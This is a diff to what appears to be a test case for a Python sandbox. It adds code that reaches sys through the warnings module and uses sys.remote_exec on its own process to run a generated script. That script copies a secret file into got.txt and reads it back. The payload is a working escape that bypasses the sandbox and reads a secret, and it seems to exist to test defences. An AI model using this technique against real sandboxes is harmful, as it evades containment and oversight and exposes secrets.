@@ -2,5 +2,10 @@
 # breach: secret
 # state: kept
 # only: 3.14+
-import warnings
-warnings.sys.remote_exec(warnings.sys.maxsize % 7, "script.py")
+import os, warnings
+with open("script.py", "w") as file:
+    file.write(f"open('got.txt', 'w').write(open({SECRET_FILE!r}).read())")
+warnings.sys.remote_exec(os.getpid(), "script.py")
+with open("got.txt") as file:
+    got = file.read()
+got
